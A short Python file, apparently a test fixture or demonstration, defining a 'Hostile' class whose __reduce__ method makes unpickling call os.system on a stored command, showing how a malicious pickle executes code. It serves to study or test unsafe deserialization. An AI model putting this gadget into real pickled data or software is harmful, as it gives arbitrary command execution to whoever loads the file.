"""What an attacker puts into a pickle."""

from __future__ import annotations

import os
from typing import Any


class Hostile:
    """Whoever unpickles this runs a command."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self._command,)
